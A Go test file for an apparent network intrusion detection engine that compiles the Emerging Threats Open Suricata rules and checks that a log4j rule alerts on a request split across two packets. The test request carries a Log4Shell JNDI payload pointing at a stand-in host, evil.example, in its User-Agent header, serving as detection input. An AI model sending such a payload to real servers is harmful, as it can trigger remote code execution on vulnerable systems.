package ids

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bulkhead/bulkhead/internal/ids/rules"
)

// etOpen reads the Emerging Threats Open rule file, test data kept beside
// the repository (../shared), never in it; the test skips without it.
func etOpen(tb testing.TB) []byte {
	tb.Helper()
	_, file, _, _ := runtime.Caller(0)
	root := filepath.Join(filepath.Dir(file), "..", "..")
	p := filepath.Join(root, "..", "shared", "data", "et-open", "et-open-suricata-5.0.rules.gz")
	f, err := os.Open(p)
	if err != nil {
		tb.Skipf("ET Open rules not found at %s (test data beside the repository): %v", p, err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		tb.Fatal(err)
	}
	data, err := io.ReadAll(z)
	if err != nil {
		tb.Fatal(err)
	}
	return data
}

// etRules parses ET Open; with all, its commented-out rules too, topped
// up to n rules with copies under new sids (n 0: as many as there are).
func etRules(tb testing.TB, all bool, n int) []*rules.Rule {
	tb.Helper()
	data := etOpen(tb)
	var lines []string
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		l := strings.TrimSpace(sc.Text())
		if all {
			l = strings.TrimSpace(strings.TrimPrefix(l, "#"))
		}
		if strings.HasPrefix(l, "alert ") || strings.HasPrefix(l, "drop ") || strings.HasPrefix(l, "pass ") || strings.HasPrefix(l, "reject ") {
			lines = append(lines, l)
		}
	}
	for i, have := 0, len(lines); n > 0 && len(lines) < n; i++ {
		lines = append(lines, strings.Replace(lines[i%have], "sid:", fmt.Sprintf("sid:9%d", len(lines)), 1))
	}
	if n > 0 {
		lines = lines[:n]
	}
	rs, _ := rules.Read(strings.NewReader(strings.Join(lines, "\n")+"\n"), "et-open.rules", nil)
	return rs
}

func TestCompileETOpen(t *testing.T) {
	rs := etRules(t, false, 0)
	start := time.Now()
	e, probs := Compile(rs)
	elapsed := time.Since(start)
	st := e.Stats()
	t.Logf("ET Open: %d parsed rules compiled in %v: %d rules (%d packet, %d stream, %d transaction), %d fast patterns, %d without a fast pattern (%d on streams/transactions), %d problems",
		len(rs), elapsed, st.Rules, st.Packet, st.Stream, st.Tx, st.Patterns, st.Always, st.AlwaysStreamTx, len(probs))
	reasons := map[string]int{}
	for _, p := range probs {
		reason := p.Reason
		if i := strings.IndexByte(reason, '('); i > 0 {
			reason = reason[:i]
		}
		reasons[reason]++
	}
	keys := make([]string, 0, len(reasons))
	for k := range reasons {
		keys = append(keys, k)
	}
	slices.SortFunc(keys, func(a, b string) int { return reasons[b] - reasons[a] })
	for _, k := range keys {
		t.Logf("%6d  %s", reasons[k], k)
	}
	if st.Rules*100 < len(rs)*95 {
		t.Errorf("only %d of %d parsed rules compile, want at least 95%%", st.Rules, len(rs))
	}
	if st.AlwaysStreamTx*100 > st.Rules {
		t.Errorf("%d always-candidate stream/transaction rules, want at most 1%% of %d", st.AlwaysStreamTx, st.Rules)
	}

	// The log4j rule (2034647: http, content "${jndi:ldap://" nocase on
	// the payload) alerts on a request carrying it, split in two.
	var got []uint32
	insp := NewInspector(InspectorConfig{OnAlert: func(a *Alert) { got = append(got, a.Rule.SID) }})
	k := newConn(t, 41000, 80)
	k.c = netip4(k.c, "203.0.113.9") // ET's $EXTERNAL_NET is !$HOME_NET
	req := "GET / HTTP/1.1\r\nHost: shop\r\nUser-Agent: ${jNdI:ldap://evil.example/a}\r\n\r\n"
	pkts := append(k.handshake(), k.toServer(0, []byte(req[:40])), k.toServer(40, []byte(req[40:])))
	for _, p := range pkts {
		insp.Packet(t0, p, e, true)
	}
	if !slices.Contains(got, 2034647) {
		t.Errorf("log4j request: alerts %v, want 2034647 among them", got)
	}
}
